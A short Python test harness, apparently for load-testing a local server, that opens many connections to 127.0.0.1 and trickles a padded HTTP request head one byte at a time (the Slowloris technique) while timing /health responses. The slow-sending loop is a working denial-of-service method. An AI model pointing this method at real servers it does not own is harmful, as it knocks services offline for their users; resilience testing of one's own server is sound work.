# Measures GET /health latency while N clients trickle a request head one
# byte every INTERVAL seconds. Usage: slowloris.py PORT [N] [INTERVAL] [SECONDS] [distinct]
import socket, sys, threading, time
port = int(sys.argv[1]); n = int(sys.argv[2]) if len(sys.argv) > 2 else 30
interval = float(sys.argv[3]) if len(sys.argv) > 3 else 1.0
duration = float(sys.argv[4]) if len(sys.argv) > 4 else 10.0
distinct = len(sys.argv) > 5 and sys.argv[5] == "distinct"
head = b"GET /state HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 1000 + b"\r\n\r\n"
stop = time.time() + duration
closed = [0]
def slow(i):
    s = socket.socket()
    if distinct: s.bind(("127.0.0.%d" % (i + 2), 0))
    try:
        s.connect(("127.0.0.1", port))
        for b in head:
            if time.time() > stop: break
            s.send(bytes([b])); time.sleep(interval)
    except OSError:
        closed[0] += 1
    s.close()
ts = [threading.Thread(target=slow, args=(i,)) for i in range(n)]
for t in ts: t.start()
time.sleep(min(1.0, duration / 4))
lat = []
while time.time() < stop - 0.5:
    t0 = time.time()
    try:
        c = socket.create_connection(("127.0.0.1", port), timeout=5)
        c.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
        data = b""
        while True:
            d = c.recv(4096)
            if not d: break
            data += d
        c.close()
        status = data.split(b" ")[1].decode() if data else "none"
    except OSError as e:
        status = "error:" + type(e).__name__
    lat.append((round(time.time() - t0, 3), status))
    time.sleep(0.25)
for t in ts: t.join()
print("health samples (seconds, status):", lat)
print("max latency: %.3f s; slow clients that saw an error: %d" % (max(l for l, _ in lat), closed[0]))
